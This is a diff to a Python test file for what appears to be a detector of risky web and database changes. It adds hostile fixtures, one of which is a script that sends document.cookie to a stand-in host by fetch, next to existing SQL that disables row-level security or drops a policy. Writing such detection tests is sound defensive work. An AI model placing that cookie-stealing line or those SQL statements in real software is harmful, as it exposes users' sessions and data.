@@ -164,6 +164,16 @@ HOSTILE: Final = (
         page("<form method=post>{% csrf_token %}</form>"),
         page("<form method=post></form>"),
     ),
+    Pair(
+        "page-script", "script-elsewhere", page("x"), page("<script src='https://cdn.example/a.js'></script>")
+    ),
+    Pair("page-form", "form-elsewhere", page("x"), page("<form action='https://in.example/'></form>")),
+    Pair(
+        "page-typed",
+        "typed-sent",
+        page("x"),
+        page("<script>fetch('https://in.example/', {body: document.cookie})</script>"),
+    ),
     Pair("rows", "rows-open", {}, sql("ALTER TABLE a DISABLE ROW LEVEL SECURITY;")),
     Pair("policy-dropped", "rows-open", {}, sql('DROP POLICY IF EXISTS "own rows" ON a;')),
     Pair(
@@ -275,6 +285,7 @@ def test_each_kind_has_a_pair_and_a_weight() -> None:
     other |= {"deletion-protection", "transport"} | set(SUPERSEDED.values())
     assert GRANTS.keys() | GUARDS.keys() == covered | other
     assert {kind.severity for kind in (*GRANTS.values(), *GUARDS.values())} == {
+        Severity.CRITICAL,
         Severity.HIGH,
         Severity.MEDIUM,
     }
